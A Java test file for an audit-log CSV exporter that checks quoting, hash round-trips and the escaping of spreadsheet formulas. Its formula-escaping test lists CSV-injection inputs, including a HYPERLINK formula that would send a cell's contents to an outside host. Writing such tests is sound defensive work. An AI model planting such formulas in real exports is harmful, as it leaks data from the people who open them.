package io.slipway.control.audit;

import static org.assertj.core.api.Assertions.assertThat;

import io.slipway.control.audit.chain.AuditEntry;
import io.slipway.control.audit.chain.AuditHash;
import io.slipway.control.audit.chain.EntryLine;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

class AuditCsvTests {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  private static AuditEntry entry(
      String actor, @Nullable String objectId, Map<String, Object> detail) {
    return new AuditEntry(
            1,
            "2026-01-31T12:00:00.000000Z",
            actor,
            "a.b",
            "thing",
            objectId,
            null,
            "",
            detail,
            AuditHash.BEFORE_THE_FIRST,
            "")
        .hashed();
  }

  @Test
  void absent_values_are_empty_and_texts_stand_in_quotes() {
    assertThat(AuditCsv.row(entry("an \"n\"", null, Map.of("k", "a,b"))))
        .startsWith(
            "1,\"2026-01-31T12:00:00.000000Z\",\"an \"\"n\"\"\",\"a.b\",\"thing\",,,\"\","
                + "\"{\"\"k\"\":\"\"a,b\"\"}\",\"0000")
        .endsWith("\"\r\n");
  }

  @Test
  void what_a_spreadsheet_could_take_for_a_formula_has_an_apostrophe_in_front() {
    for (var text :
        List.of(
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u00a0=1",
            "\ufeff=1",
            "＝1",
            "\tx",
            "'quoted",
            "=HYPERLINK(\"http://example.com/\"&A1)")) {
      var row = AuditCsv.row(entry(text, text, Map.of()));
      var fields = CsvRows.parse(row).getFirst();
      assertThat(fields.get(2)).isEqualTo("'" + text);
      assertThat(fields.get(5)).isEqualTo("'" + text);
    }
    for (var text : List.of("ann", "a=b", "1-1", "a'b", " a")) {
      assertThat(CsvRows.parse(AuditCsv.row(entry(text, null, Map.of()))).getFirst().get(2))
          .isEqualTo(text);
    }
  }

  @Provide
  Arbitrary<String> oddText() {
    // PostgreSQL's text: any characters but NUL, and no half of a surrogate pair.
    var any =
        Arbitraries.integers()
            .between(1, Character.MAX_CODE_POINT)
            .filter(c -> c < Character.MIN_SURROGATE || c > Character.MAX_SURROGATE)
            .map(Character::toString);
    var odd =
        Arbitraries.of(
            "\"",
            "\\",
            "'",
            ",",
            "\r\n",
            "\n",
            "\t",
            "\u0001",
            "\u007f",
            "\u2028",
            "\ufeff",
            "=",
            "+",
            "-",
            "@",
            "{",
            "}",
            "\uD83D\uDEA2",
            "\uFB33",
            "\uE000",
            "é",
            "e\u0301",
            " ");
    return Arbitraries.frequencyOf(Tuple.of(1, any), Tuple.of(2, odd))
        .list()
        .ofMaxSize(12)
        .map(parts -> String.join("", parts));
  }

  @Provide
  Arbitrary<Object> value() {
    var exact = Arbitraries.longs().between(-(1L << 53), 1L << 53);
    Arbitrary<Object> leaf =
        Arbitraries.oneOf(
            oddText().asGeneric(), exact.asGeneric(), Arbitraries.of(true, false).asGeneric());
    return Arbitraries.oneOf(
        leaf,
        leaf.list().ofMaxSize(3).asGeneric(),
        Arbitraries.maps(oddText(), leaf.list().ofMaxSize(2)).ofMaxSize(3).asGeneric());
  }

  @Provide
  Arbitrary<AuditEntry> oddEntry() {
    var details = Arbitraries.maps(oddText(), value()).ofMaxSize(4);
    return Combinators.combine(oddText(), oddText().injectNull(0.2), details)
        .as(AuditCsvTests::entry);
  }

  @Property(tries = 200, edgeCases = EdgeCasesMode.NONE)
  void an_entry_comes_back_from_its_line_with_its_hash(@ForAll("oddEntry") AuditEntry entry) {
    var back = EntryLine.parse(JSON.writeValueAsBytes(entry));
    assertThat(back.hashed().hash()).isEqualTo(entry.hash());
    assertThat(back.actor()).isEqualTo(entry.actor());
    assertThat(back.objectId()).isEqualTo(entry.objectId());
    // As somebody computes it who has nothing of Slipway's code.
    assertThat(ExportedLine.parse(JSON.writeValueAsString(entry)).recomputedHash())
        .isEqualTo(entry.hash());
  }

  @Property(tries = 200, edgeCases = EdgeCasesMode.NONE)
  void an_entry_comes_back_from_its_row_with_its_hash(@ForAll("oddEntry") AuditEntry entry) {
    var rows = CsvRows.parse(AuditCsv.HEADER + AuditCsv.row(entry));
    assertThat(rows).hasSize(2);
    assertThat(CsvRows.entry(rows.get(1)).hashed().hash()).isEqualTo(entry.hash());
  }
}
